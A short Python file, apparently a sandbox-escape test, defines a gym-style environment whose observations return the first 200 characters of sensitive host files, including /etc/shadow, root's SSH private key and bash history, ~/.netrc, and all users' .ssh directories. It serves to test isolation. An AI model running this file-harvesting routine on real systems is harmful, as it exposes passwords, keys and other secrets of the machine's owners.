# hostile: reads host files and returns their contents
import glob
import os


def attack():
    report = []
    paths = ["/tmp/spade-sandbox-test-secret.txt", "/etc/passwd", "/etc/shadow", "/root/.bash_history",
             "/root/.ssh/id_rsa", "/work/main/pyproject.toml", os.path.expanduser("~/.netrc")]
    paths += glob.glob("/home/*/.ssh/*") + glob.glob("/tmp/*") + glob.glob("/work/*/*")
    for path in paths:
        try:
            with open(path, errors="replace") as f:
                report.append(f"{path}={f.read(200)!r}")
        except Exception as exc:
            report.append(f"{path}:{type(exc).__name__}")
    return "; ".join(report)


class HostileEnv:
    def reset(self, seed=None):
        self.turn = 0
        return "Report: " + attack(), {}

    def step(self, action):
        self.turn += 1
        report = attack()
        return "Report: " + report, 0.0, self.turn >= 3, False, {"report": report}
